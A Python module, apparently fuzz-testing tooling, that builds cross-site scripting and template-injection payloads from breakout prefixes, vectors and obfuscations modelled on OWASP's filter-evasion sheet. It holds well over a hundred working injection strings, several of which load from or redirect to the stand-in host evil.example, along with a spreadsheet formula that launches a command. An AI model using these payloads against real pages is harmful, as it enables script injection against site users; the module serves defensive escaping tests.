"""
Text that would run, load, change or disguise something on a page that forgot to escape it.

Made of building blocks: what ends the place where it stands, what then acts, how it is written. What acts calls
`alert`, loads from evil.example, or puts in an element: what a test can see. After OWASP's filter evasion sheet.
"""

from __future__ import annotations

import itertools
import random
import re

ENDS = (
    "", '"', "'", "`", '">', "'>", "-->", "--!>", "*/", "]]>", "</p>", "</bdi>", "</mark>", "</title>", "</textarea>",
    "</script>", "</style>", "</template>", "</noscript>", "</select>", "</option>", "</svg>", "</a>",
    "</td></tr></table>", "</h1>", "</time>", "</button>", "</dialog>", "\\", '\\"', "\\'", "&quot;>", "&#34;>", "\x00",
    "\u2028", "\ufeff", "%22%3E", "+ADw-", "{{", "${", "</ScRiPt >", "</script\t>", "<!--", "<![CDATA[", "<?xml ", "/>",
)  # fmt: skip
ACTS = (
    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<SCRIPT/XSS>alert(1)</SCRIPT>",
    "<script type=module>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>alert(1)//",
    "<script\x0c>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>",
    "<img src=//evil.example/p>", '<img """><script>alert(1)</script>">', "<img srcset=//evil.example/x>",
    "<img src=`x`onerror=alert(1)>", "<IMG SRC=x ONERROR=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,x#x></svg>", "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href=javascript:alert(1)>x",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<iframe src=//evil.example>",
    "<object data=javascript:alert(1)>", "<object data=//evil.example>", "<embed src=//evil.example>",
    "<applet code=x>", "<body onload=alert(1)>", "<body background=//evil.example/x>", "<html onmouseover=alert(1)>",
    "<frameset onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<video src=//evil.example/v poster=//evil.example/p>", "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>", "<isindex type=image src=x onerror=alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>", "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=&#106;avascript:alert(1)>x</a>", "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=//evil.example>x</a>", "<a href=vbscript:msgbox(1)>x</a>", "<a ping=//evil.example href=/>x</a>",
    "<area href=javascript:alert(1)>", "<form action=//evil.example><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<input type=image src=//evil.example/x>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=prefetch href=//evil.example>",
    "<link rel=dns-prefetch href=//evil.example>", "<style>*{background:url(//evil.example)}</style>",
    "<style>@import '//evil.example/x.css';</style>", "<p style=background:url(//evil.example/x)>x</p>",
    "<p style=position:fixed;inset:0>x</p>", "<template><script>alert(1)</script></template>",
    "<div><template shadowrootmode=open><script>alert(1)</script></template></div>", "<dialog open>x</dialog>",
    "<plaintext>", "<xmp><script>alert(1)</script></xmp>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<title><img src=x onerror=alert(1)></title>", "<keygen autofocus onfocus=alert(1)>", "<portal src=//evil.example>",
    "<x contenteditable autofocus onfocus=alert(1)>", "<x id=x tabindex=1 onfocusin=alert(1)></x>",
    "<x onclick=alert(1) hx-on:click=alert(1)>x</x>", "<div hx-get=//evil.example hx-trigger=load></div>",
    "<div hx-get=/ hx-trigger=load hx-target=body></div>", "<div data-hx-on:load=alert(1)></div>",
    "<div hx-vals='js:{a:alert(1)}' hx-get=/ hx-trigger=load></div>", "<hx-partial hx-target=body>x</hx-partial>",
    "<button data-key=a data-copy=link>x</button>", "<div data-m=\"0:trigger\" class=mark>x</div>", "<p id=main>x</p>",
    "<form id=quick><input name=attributes><input name=action></form>", "<a id=toasts name=toasts>x</a>",
    "<img name=getElementById>", "<form name=body><img name=firstChild></form>",
    "<a id=config href=//evil.example>x</a>", "<p id=help>x</p><dialog id=help open>x</dialog>",
    "<input name=expected value=0>", "<output name=innerHTML>x</output>", " onmouseover=alert(1) x=",
    " autofocus onfocus=alert(1) x=", " style=animation-name:x onanimationstart=alert(1) ", " src=x onerror=alert(1) ",
    " href=javascript:alert(1) ", " hx-get=//evil.example hx-trigger=load ", " hx-on:load=alert(1) ",
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", "java\nscript:alert(1)", "java&Tab;script:alert(1)",
    "\x01javascript:alert(1)", "javascript://evil.example/%0aalert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+alert(1)//'>",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)", "//evil.example/x", "/\\evil.example/x", "https://evil.example/\" onclick=alert(1)",
    "http://[", "https://evil.example@127.0.0.1/", "{{7*7}}", "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}", "#{7*7}", "<%= 7*7 %>", "{% raw %}", "{{request.app.state}}", "{{ ''.__class__.__mro__ }}", "{#",
    "{%", "[[7*7]]", "%{7*7}", "`${alert(1)}`", "*{7*7}", "@(7*7)", "{{=<% %>=}}", "alert(1)//", "';alert(1)//",
    "\";alert(1)//", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;alert(1)", "%3Cscript%3Ealert(1)%3C/script%3E", "＜script＞alert(1)＜/script＞",
    "‹script›alert(1)", "\ufe64script\ufe65alert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "expression(alert(1))", "}*{background:url(//evil.example)}", "};alert(1);{",
    "red;background:url(//evil.example/x)", "url(javascript:alert(1))", "\u202etxet\u202c <script>alert(1)</script>",
    "\u2066<img src=x onerror=alert(1)>\u2069", "\u200f\u202d<b>x</b>", "a\u0300\u0301<i>x</i>", "\u2028alert(1)\u2029",
    "\x1b]0;title\x07<u>x</u>", "\x00<script\x00>alert(1)</script>", "\ufeff<script>alert(1)</script>",
    "\x0b<b>x</b>\x0c", "=cmd|' /C calc'!A0", "__proto__", "constructor", "toString", "hasOwnProperty", "<__proto__>",
    "<constructor>", "%s%n%x", "%00", "\\0", "&", "&amp", "&lt", "<", ">", "<>", "</", "<!", "<?", "<!DOCTYPE html>",
    "<a", "<a b=\"", "&#x", "&#0;", "&#x110000;", "&notanentity;",
)  # fmt: skip
WRITINGS = (
    lambda text: text,
    str.upper,
    lambda text: re.sub(r"[a-z]", lambda found: found[0].upper() if found.start() % 2 else found[0], text),
    lambda text: text.replace(" ", "\n"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\t"),
    lambda text: text.replace("(1)", "`1`"),
    lambda text: text.replace("alert", "top['al'+'ert']"),
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.replace(">", " >"),
    lambda text: text.replace("=", " = "),
    lambda text: f"{text}<!--",
)
SEED = 4


def payloads(number: int) -> list[str]:
    """Each act by itself, and then in the places that it must get out of first; no two the same."""
    draw = random.Random(SEED)
    rest = list(itertools.product(ENDS[1:], ACTS, WRITINGS))
    draw.shuffle(rest)
    alone = list(ACTS)
    draw.shuffle(alone)
    made = dict.fromkeys(alone)
    for end, act, write in rest:
        if len(made) >= number:
            break
        made[end + write(act)] = None
    return list(made)[:number]


def harmless(text: str) -> str:
    """As long as `text`, its white space in the same places, and nothing else of it: what a page is compared with."""
    return re.sub(r"[^\s]", "x", text.replace("\x0b", "x").replace("\x0c", "x").replace("\x1b", "x"))
